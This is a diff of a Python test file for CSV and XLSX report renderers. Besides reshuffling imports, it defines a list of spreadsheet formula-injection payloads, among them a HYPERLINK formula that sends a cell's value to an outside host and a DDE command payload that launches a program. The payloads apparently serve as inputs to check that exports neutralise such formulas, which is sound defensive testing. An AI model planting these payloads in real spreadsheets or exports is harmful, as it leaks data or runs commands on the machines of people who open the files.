@@ -11,11 +11,11 @@ import pytest
 import yaml
 from conftest import write_params
 
-from evaluation import publish
-from evaluation.errors import RenderError
+from evaluation.build.report import open_report
+from evaluation.core.errors import RenderError
 from evaluation.renderers import csv as csv_renderer
 from evaluation.renderers import xlsx as xlsx_renderer
-from evaluation.report import open_report
+from evaluation.run import publish
 
 FORMULAS = ['=HYPERLINK("http://example.org/?"&A1,"klick")', "+1+1", "-2+3", "@SUM(A1:A2)", "=cmd|' /C calc'!A0"]
 HOSTILE = yaml.safe_dump({
